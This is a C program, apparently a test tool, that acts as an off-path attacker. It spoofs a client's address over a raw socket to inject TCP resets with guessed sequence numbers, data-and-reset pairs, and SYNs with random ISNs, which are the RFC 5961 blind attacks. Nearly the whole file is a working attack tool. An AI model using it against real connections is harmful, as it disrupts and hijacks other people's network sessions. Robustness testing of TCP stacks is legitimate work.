/*
 * blindtcp: what an off-path attacker sends at a TCP connection whose
 * endpoints it knows but whose sequence numbers it does not (RFC 5961):
 * resets with guessed sequence numbers, pairs of a data segment and a
 * reset right after it (the attack that moved a front-end's idea of the
 * client's next sequence number, then reset it there), and SYNs with other
 * ISNs.  Through a raw socket, with the client's address as the source.
 *
 * usage: blindtcp SRC:PORT DST:PORT rst|pair|syn COUNT
 *   rst   COUNT resets at random sequence numbers
 *   pair  COUNT data segments, each followed by a reset at its end; the
 *         first two start at 1 and 0x80000001, the others at random
 *   syn   COUNT SYNs with random ISNs
 */
#include <sys/random.h>
#include <sys/socket.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pkt.h"

static int			 s;
static struct sockaddr_in	 src, dst;

static int
endpoint(const char *arg, struct sockaddr_in *sin)
{
	char	 buf[64], *colon;

	snprintf(buf, sizeof(buf), "%s", arg);
	if ((colon = strrchr(buf, ':')) == NULL)
		return -1;
	*colon = '\0';
	memset(sin, 0, sizeof(*sin));
	sin->sin_family = AF_INET;
	sin->sin_port = htons((uint16_t)atoi(colon + 1));
	return inet_pton(AF_INET, buf, &sin->sin_addr) == 1 ? 0 : -1;
}

static uint32_t
rnd(void)
{
	uint32_t v;

	if (getrandom(&v, sizeof(v), 0) != sizeof(v))
		exit(1);
	return v;
}

static void
send_tcp(uint32_t seq, uint32_t ack, uint8_t flags, const char *data,
    size_t len)
{
	uint8_t		 pkt[256];
	size_t		 n;
	struct ipaddr	 sa = addr4(src.sin_addr.s_addr);
	struct ipaddr	 da = addr4(dst.sin_addr.s_addr);

	n = pkt_build_tcp(pkt, sizeof(pkt), &sa, src.sin_port, &da,
	    dst.sin_port, seq, ack, flags, 502, NULL, data, len, 1);
	if (n == 0 || sendto(s, pkt, n, 0, (struct sockaddr *)&dst,
	    sizeof(dst)) != (ssize_t)n) {
		perror("blindtcp: sendto");
		exit(1);
	}
}

int
main(int argc, char *argv[])
{
	long	 count, i;
	int	 on = 1;
	uint32_t seq;

	if (argc != 5 || endpoint(argv[1], &src) == -1 ||
	    endpoint(argv[2], &dst) == -1 || (count = atol(argv[4])) <= 0) {
		fprintf(stderr, "usage: blindtcp SRC:PORT DST:PORT "
		    "rst|pair|syn COUNT\n");
		return 2;
	}
	if ((s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1 ||
	    setsockopt(s, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) == -1) {
		perror("blindtcp: socket");
		return 1;
	}
	for (i = 0; i < count; i++) {
		if (strcmp(argv[3], "rst") == 0)
			send_tcp(rnd(), 0, TH_RST, NULL, 0);
		else if (strcmp(argv[3], "pair") == 0) {
			seq = i == 0 ? 1 : i == 1 ? 0x80000001u : rnd();
			send_tcp(seq, rnd(), TH_ACK | TH_PUSH, "0123456789",
			    10);
			send_tcp(seq + 10, 0, TH_RST, NULL, 0);
		} else if (strcmp(argv[3], "syn") == 0)
			send_tcp(rnd(), 0, TH_SYN, NULL, 0);
		else {
			fprintf(stderr, "blindtcp: rst, pair or syn\n");
			return 2;
		}
	}
	return 0;
}
